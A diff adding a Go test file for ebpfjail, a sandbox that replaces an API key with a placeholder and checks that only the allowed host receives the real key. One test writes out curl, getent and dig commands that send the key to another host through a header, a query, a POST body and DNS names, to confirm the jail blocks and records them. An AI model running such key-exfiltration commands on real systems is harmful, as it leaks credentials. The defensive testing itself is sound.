@@ -1,0 +1,321 @@
+package tests
+
+import (
+	"crypto/rand"
+	"fmt"
+	"io"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/ebpfjail/ebpfjail/internal/testutil"
+	"github.com/ebpfjail/ebpfjail/pkg/event"
+)
+
+// keyOrigin is api.test and other.test on one test host, over HTTPS with a
+// certificate from a test CA that ebpfjail (not the jail) trusts through
+// SSL_CERT_FILE. It answers 200 only to requests that carry the real key,
+// in any of the ways a client sends one, and records everything it got.
+type keyOrigin struct {
+	h    *testutil.Host
+	ca   *testutil.TestCA
+	key  string // the real value
+	mu   sync.Mutex
+	seen []string
+}
+
+func newKeyOrigin(t *testing.T) *keyOrigin {
+	t.Helper()
+	testutil.RequireRoot(t)
+	o := &keyOrigin{h: testutil.NewHost(t), ca: testutil.NewTestCA(t), key: "sk-test-" + rand.Text()}
+	srv := &http.Server{Handler: http.HandlerFunc(o.serve), TLSConfig: tlsConfigFor(o.ca.Leaf(t, "api.test", "other.test"))}
+	srv.TLSConfig.NextProtos = []string{"h2", "http/1.1"}
+	go srv.ServeTLS(o.h.Listen(t, "tcp", "[::]:443"), "", "")
+	t.Cleanup(func() { srv.Close() })
+	return o
+}
+
+// serve answers "ok HOW" when the request carries the real key (HOW: the
+// way it came), 401 otherwise.
+func (o *keyOrigin) serve(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+	r.Body = io.NopCloser(strings.NewReader(string(body)))
+	var raw strings.Builder
+	r.Header.Write(&raw)
+	o.mu.Lock()
+	o.seen = append(o.seen, fmt.Sprintf("%s %s %s\n%s\n%s", r.Host, r.Method, r.URL, raw.String(), body))
+	o.mu.Unlock()
+	if r.URL.Path == "/v1/messages" {
+		o.messages(w, r)
+		return
+	}
+	_, pass, basic := r.BasicAuth()
+	how := ""
+	switch {
+	case r.Header.Get("Authorization") == "Bearer "+o.key:
+		how = "bearer"
+	case r.Header.Get("X-Api-Key") == o.key:
+		how = "x-api-key"
+	case basic && pass == o.key:
+		how = "basic"
+	case r.URL.Query().Get("key") == o.key:
+		how = "query"
+	}
+	if how == "" {
+		http.Error(w, "unauthorized", http.StatusUnauthorized)
+		return
+	}
+	fmt.Fprintf(w, "ok %s\n", how)
+}
+
+// requests is everything the origin received, one request per entry.
+func (o *keyOrigin) requests() []string {
+	o.mu.Lock()
+	defer o.mu.Unlock()
+	return append([]string(nil), o.seen...)
+}
+
+// run jails command with the real key in ebpfjail's environment as name,
+// a secret for api.test, a rule allowing both names, and every record
+// ebpfjail can write; it returns the run, all of ebpfjail's output
+// (stdout, stderr, -vv, --log-json, --request-log) in one string, and the
+// events.
+func (o *keyOrigin) run(t *testing.T, name string, extra []string, command ...string) (result, string, []event.Event) {
+	t.Helper()
+	dir := t.TempDir()
+	events, reqlog := filepath.Join(dir, "events.jsonl"), filepath.Join(dir, "requests.log")
+	args := []string{"-vv", "--user", "nobody", "--js", "r.host === 'api.test' || r.host === 'other.test'",
+		"--resolve", "api.test:" + o.h.IPv4.String(), "--resolve", "other.test:" + o.h.IPv4.String(),
+		"--log-json", events, "--request-log", reqlog, "--secret", name + "=api.test"}
+	args = append(append(append(args, extra...), "--"), command...)
+	r := jail(t, runOpts{env: []string{"SSL_CERT_FILE=" + o.ca.PEMPath, name + "=" + o.key}, timeout: 2 * time.Minute}, args...)
+	all := r.stdout + r.stderr
+	for _, f := range []string{events, reqlog} {
+		b, _ := os.ReadFile(f)
+		all += string(b)
+	}
+	return r, all, readEvents(t, events)
+}
+
+// noRealKey fails if the real key shows in what.
+func (o *keyOrigin) noRealKey(t *testing.T, what, got string) {
+	t.Helper()
+	if strings.Contains(got, o.key) {
+		t.Errorf("%s holds the real key %q:\n%s", what, o.key, got)
+	}
+}
+
+// clientScript sends the placeholder of API_KEY to api.test as a Bearer
+// token, an x-api-key header, Basic auth's password and a query parameter
+// from curl, node and python3, printing "CLIENT HOW: ANSWER" per request,
+// after printing the environment the command sees.
+func clientScript(py string) string {
+	node := `const [how, url, key] = process.argv.slice(1); const h = {};
+if (how === "bearer") h.Authorization = "Bearer " + key;
+if (how === "x-api-key") h["x-api-key"] = key;
+if (how === "basic") h.Authorization = "Basic " + Buffer.from("user:" + key).toString("base64");
+fetch(how === "query" ? url + "?key=" + encodeURIComponent(key) : url, {headers: h})
+  .then(async r => console.log("node " + how + ": " + r.status + " " + (await r.text()).trim()))
+  .catch(e => console.log("node " + how + ": ERR", e.cause || e))`
+	python := `import sys, base64, urllib.request, urllib.error, urllib.parse
+how, url, key = sys.argv[1:]
+h = {}
+if how == "bearer": h["Authorization"] = "Bearer " + key
+if how == "x-api-key": h["x-api-key"] = key
+if how == "basic": h["Authorization"] = "Basic " + base64.b64encode(("user:" + key).encode()).decode()
+if how == "query": url += "?key=" + urllib.parse.quote(key)
+try:
+    r = urllib.request.urlopen(urllib.request.Request(url, headers=h), timeout=10)
+    print("python", how + ":", r.status, r.read().decode().strip())
+except urllib.error.HTTPError as e:
+    print("python", how + ":", e.code, e.read().decode().strip())`
+	return `echo "env $(env | grep '^API_KEY=')"
+echo "environ $(tr '\0' '\n' </proc/self/environ | grep '^API_KEY=')"
+u=https://api.test/
+for how in bearer x-api-key basic query; do
+  case $how in
+  bearer) a=$(curl -sS -H "Authorization: Bearer $API_KEY" $u) ;;
+  x-api-key) a=$(curl -sS -H "x-api-key: $API_KEY" $u) ;;
+  basic) a=$(curl -sS -u "user:$API_KEY" $u) ;;
+  query) a=$(curl -sS "$u?key=$API_KEY") ;;
+  esac
+  echo "curl $how: $a"
+  node -e '` + node + `' $how $u "$API_KEY"
+  ` + py + ` -c '` + python + `' $how $u "$API_KEY"
+done`
+}
+
+func TestPrivilegedSecretReachesItsHostAsTheRealKeyAndNowhereElse(t *testing.T) {
+	requireTool(t, "node")
+	o := newKeyOrigin(t)
+	r, all, _ := o.run(t, "API_KEY", nil, "sh", "-c", clientScript(python(t)))
+	if r.code != 0 {
+		t.Fatalf("%s", r)
+	}
+	placeholder := placeholderOf(t, r, "API_KEY")
+	if placeholder == o.key || len(placeholder) != len(o.key) || !strings.HasPrefix(placeholder, "sk-") {
+		t.Fatalf("the command's API_KEY: got %q, want a placeholder of %d bytes starting sk- (real %q)\n%s", placeholder, len(o.key), o.key, r)
+	}
+	contains(t, "/proc/self/environ", r.stdout, "environ API_KEY="+placeholder+"\n")
+	for _, client := range []string{"curl", "node", "python"} {
+		for _, how := range []string{"bearer", "x-api-key", "basic", "query"} {
+			want := fmt.Sprintf("%s %s: ok %s", client, how, how)
+			if client != "curl" {
+				want = fmt.Sprintf("%s %s: 200 ok %s", client, how, how)
+			}
+			contains(t, client+" "+how, r.stdout, want)
+		}
+	}
+	o.noRealKey(t, "ebpfjail's output and records", all)
+	for _, req := range o.requests() {
+		if strings.Contains(req, placeholder) {
+			t.Errorf("the origin received the placeholder:\n%s", req)
+		}
+	}
+	noJailsLeft(t)
+}
+
+// placeholderOf is the value the command printed as "env NAME=VALUE".
+func placeholderOf(t *testing.T, r result, name string) string {
+	t.Helper()
+	for _, line := range strings.Split(r.stdout, "\n") {
+		if v, ok := strings.CutPrefix(line, "env "+name+"="); ok && v != "" {
+			return v
+		}
+	}
+	t.Fatalf("the command printed no %s\n%s", name, r)
+	return ""
+}
+
+func TestPrivilegedSecretPlaceholderElsewhereIsDeniedAsMisuse(t *testing.T) {
+	o := newKeyOrigin(t)
+	script := `echo "env $(env | grep '^API_KEY=')"
+curl -sS -o /dev/null -w "header %{http_code}\n" -H "Authorization: Bearer $API_KEY" https://other.test/
+curl -sS -o /dev/null -w "query %{http_code}\n" "https://other.test/?key=$API_KEY"
+curl -sS -o /dev/null -w "body %{http_code}\n" --data "key=$API_KEY" https://other.test/
+getent hosts "$API_KEY.other.test"; echo "getent $?"
+if command -v dig >/dev/null; then dig +short +tries=1 +time=5 "dig$API_KEY.other.test"; echo "dig $?"; fi`
+	r, all, events := o.run(t, "API_KEY", nil, "sh", "-c", script)
+	ph := placeholderOf(t, r, "API_KEY")
+	for _, want := range []string{"header 403", "query 403", "body 403"} {
+		contains(t, "placeholder to another host", r.stdout, want)
+	}
+	if strings.Contains(r.stdout, "getent 0") {
+		t.Errorf("a lookup of a name holding the placeholder was answered\n%s", r)
+	}
+	for _, req := range o.requests() {
+		if strings.Contains(strings.ToLower(req), strings.ToLower(ph)) {
+			t.Errorf("the origin received the placeholder:\n%s", req)
+		}
+	}
+	o.noRealKey(t, "ebpfjail's output and records", all)
+	wantMisuse(t, events, "curl", "header", "query", "body")
+	wantMisuse(t, events, "getent", "dns")
+	noJailsLeft(t)
+}
+
+// wantMisuse fails unless events hold a secret_misuse of API_KEY by comm
+// (with its pid) for each where (a prefix of the event's where).
+func wantMisuse(t *testing.T, events []event.Event, comm string, wheres ...string) {
+	t.Helper()
+	var got []string
+	for _, w := range wheres {
+		found := false
+		for _, e := range events {
+			if e.Type != event.TypeSecretMisuse {
+				continue
+			}
+			got = append(got, fmt.Sprintf("%s pid %d comm %s exe %s where %s host %s", e.Secret, e.PID, e.Comm, e.Exe, e.Where, e.Host+e.Name))
+			if e.Secret == "API_KEY" && e.Comm == comm && e.PID != 0 && strings.HasPrefix(e.Where, w) {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("no secret_misuse event of API_KEY by %s (with its pid) where %s; got: %q", comm, w, got)
+		}
+	}
+}
+
+// messages is enough of Anthropic's Messages API for an agent CLI: the
+// real key in x-api-key (or as a Bearer token) gets one assistant turn
+// saying agentAnswer, streamed when asked; anything else gets 401.
+func (o *keyOrigin) messages(w http.ResponseWriter, r *http.Request) {
+	if r.Header.Get("X-Api-Key") != o.key && r.Header.Get("Authorization") != "Bearer "+o.key {
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusUnauthorized)
+		io.WriteString(w, `{"type":"error","error":{"type":"authentication_error","message":"invalid x-api-key"}}`)
+		return
+	}
+	msg := `{"id":"msg_ebpfjail","type":"message","role":"assistant","model":"claude-test","content":%s,"stop_reason":%s,"stop_sequence":null,"usage":{"input_tokens":10,"output_tokens":%d}}`
+	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+	if !strings.Contains(strings.ReplaceAll(string(body), " ", ""), `"stream":true`) {
+		w.Header().Set("Content-Type", "application/json")
+		fmt.Fprintf(w, msg, `[{"type":"text","text":"`+agentAnswer+`"}]`, `"end_turn"`, 5)
+		return
+	}
+	w.Header().Set("Content-Type", "text/event-stream")
+	sse := func(typ, data string) { fmt.Fprintf(w, "event: %s\ndata: %s\n\n", typ, data) }
+	sse("message_start", `{"type":"message_start","message":`+fmt.Sprintf(msg, "[]", "null", 1)+`}`)
+	sse("content_block_start", `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`)
+	sse("content_block_delta", `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"`+agentAnswer+`"}}`)
+	sse("content_block_stop", `{"type":"content_block_stop","index":0}`)
+	sse("message_delta", `{"type":"message_delta","delta":{"stop_reason":"end_turn","stop_sequence":null},"usage":{"output_tokens":5}}`)
+	sse("message_stop", `{"type":"message_stop"}`)
+}
+
+// agentAnswer is what the test API answers an agent.
+const agentAnswer = "the test origin answers through ebpfjail"
+
+func TestPrivilegedBadSecretInputStopsBeforeTheCommand(t *testing.T) {
+	testutil.RequireRoot(t)
+	dir := sharedDir(t)
+	for _, c := range []struct {
+		name  string
+		env   []string
+		args  []string
+		code  int
+		error string
+		hint  string
+	}{
+		{"not in the environment", nil, []string{"--secret", "EBPFJAIL_T_KEY=api.test"}, 2,
+			"--secret EBPFJAIL_T_KEY: EBPFJAIL_T_KEY is not in ebpfjail's environment", "sudo --preserve-env=EBPFJAIL_T_KEY"},
+		{"empty value", []string{"EBPFJAIL_T_KEY="}, []string{"--secret", "EBPFJAIL_T_KEY=api.test"}, 2,
+			"--secret EBPFJAIL_T_KEY: the value is empty", "a secret needs a value"},
+		{"too short for a placeholder", []string{"EBPFJAIL_T_KEY=short"}, []string{"--secret", "EBPFJAIL_T_KEY=api.test"}, 2,
+			"--secret EBPFJAIL_T_KEY: the value is too short", "at least 16"},
+		{"host also --no-mitm", []string{"EBPFJAIL_T_KEY=sk-0123456789abcdefghij"}, []string{"--no-mitm", "*.test", "--secret", "EBPFJAIL_T_KEY=api.test"}, 2,
+			`--secret EBPFJAIL_T_KEY host "api.test" matches --no-mitm "*.test"`, "TLS is never opened"},
+		{"secret command fails", nil, []string{"--secret", "EBPFJAIL_T_KEY=api.test", "--secret-cmd", "EBPFJAIL_T_KEY=echo 'no such entry' >&2; exit 3"}, 125,
+			"--secret-cmd EBPFJAIL_T_KEY: exit status 3: no such entry", "runs once with sh -c"},
+		{"secret file missing", nil, []string{"--secret", "EBPFJAIL_T_KEY=api.test", "--secret-file", "EBPFJAIL_T_KEY=" + filepath.Join(dir, "none")}, 125,
+			"--secret-file EBPFJAIL_T_KEY: open", "read once"},
+		{"option without --secret", []string{"EBPFJAIL_T_KEY=sk-0123456789abcdefghij"}, []string{"--secret", "EBPFJAIL_T_KEY=api.test", "--secret-in-body", "OTHER"}, 2,
+			"--secret-in-body OTHER: no --secret OTHER", "--secret OTHER=HOSTGLOB"},
+		{"invalid name", nil, []string{"--secret", "MY-KEY=api.test"}, 2,
+			`--secret: "MY-KEY" is not a variable name`, "letters, digits and _"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			marker := filepath.Join(dir, strings.ReplaceAll(c.name, " ", "-"))
+			args := append(append([]string{"--user", "nobody"}, c.args...), "--", "touch", marker)
+			r := jail(t, runOpts{env: c.env}, args...)
+			if r.code != c.code {
+				t.Errorf("exit %d, want %d\n%s", r.code, c.code, r)
+			}
+			lines := strings.Split(strings.TrimSpace(r.stderr), "\n")
+			if want := "ebpfjail: error: " + c.error; !strings.HasPrefix(lines[0], want) || strings.Count(r.stderr, "ebpfjail: error:") != 1 {
+				t.Errorf("stderr: got %q, want one error line starting %q", r.stderr, want)
+			}
+			if len(lines) < 2 || !strings.HasPrefix(lines[1], "ebpfjail: hint: ") || !strings.Contains(r.stderr, c.hint) {
+				t.Errorf("stderr: got %q, want a hint with %q", r.stderr, c.hint)
+			}
+			if _, err := os.Stat(marker); err == nil {
+				t.Errorf("the command ran")
+			}
+		})
+	}
+	noJailsLeft(t)
+}
